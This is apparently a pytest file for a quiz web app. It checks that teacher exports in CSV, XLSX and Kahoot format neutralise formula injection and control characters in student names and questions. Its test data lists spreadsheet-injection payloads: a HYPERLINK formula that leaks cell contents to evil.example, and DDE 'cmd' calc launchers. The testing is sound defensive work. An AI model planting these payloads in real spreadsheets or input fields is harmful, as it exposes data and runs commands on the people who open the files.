"""Exports that are safe to open: what students and imports typed never runs as a formula in the teacher's
spreadsheet, and characters a spreadsheet cannot hold (left in old data) never break an export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from quiz.extensions import db
from quiz.interop.cells import formula_like, protect, unprotect
from quiz.models import User
from tests.web.test_teach import assign, create_class, create_set, join, take

# Names a red-team run used, as a legacy database may still hold them (forms refuse some of them today).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "سارة\x07\x1b\x0b",  # (no NUL: PostgreSQL cannot even store one)
    "\u202eأحمد\u202c",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_protected_text_is_never_a_formula_and_reads_back_as_it_was(text):
    if formula_like(text):
        assert protect(text).startswith("'")  # a spreadsheet shows it as text
    assert unprotect(protect(text)) == text


@pytest.mark.parametrize("number", ["-3", "+1", "-0.5", "1e3"])
def test_numbers_that_start_like_formulas_are_left_alone(number):
    assert protect(number) == number


def test_results_exports_neutralise_every_hostile_name(app, teacher, clock):
    class_id, code = create_class(teacher)
    assignment_id = assign(teacher, class_id, create_set(teacher), clock)
    for n, name in enumerate(HOSTILE):
        student, _ = join(app, code, f"طالب {n}")
        take(student, assignment_id)
    with app.app_context():  # legacy names, written before the forms refused them
        for n, name in enumerate(HOSTILE):
            db.session.execute(db.update(User).where(User.display_name == f"طالب {n}").values(display_name=name))
        db.session.commit()

    exported = teacher.get(f"/teach/assignments/{assignment_id}/export.csv")
    assert exported.status_code == 200
    names = [row[0] for row in csv.reader(io.StringIO(exported.get_data().decode("utf-8-sig")))][1:]
    assert all(not name.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or name.startswith("'")
               for name in names)
    assert not any(ch in "".join(names) for ch in "\x07\x1b\x0b")

    workbook = teacher.get(f"/teach/assignments/{assignment_id}/export.xlsx")
    assert workbook.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.get_data())).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [cell.value for cell in cells]  # exactly as typed
    assert "سارة" in [cell.value for cell in cells]  # its control characters dropped


def test_a_kahoot_export_of_hostile_question_text_is_text(app, teacher):
    set_id = create_set(teacher)
    with app.app_context():
        from quiz.models import SetVersion

        version = db.session.execute(db.select(SetVersion).where(SetVersion.set_id == set_id)).scalars().first()
        content = dict(version.content)
        question = dict(content["questions"][0])
        question["prompt_ar"] = '=HYPERLINK("http://evil.example")\x07'
        content["questions"] = [question, *content["questions"][1:]]
        version.content = content
        db.session.commit()
    exported = teacher.get(f"/teach/sets/{set_id}/export/kahoot")
    if exported.status_code == 404:
        pytest.skip("no Kahoot export route under this name")
    assert exported.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported.get_data())).active
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
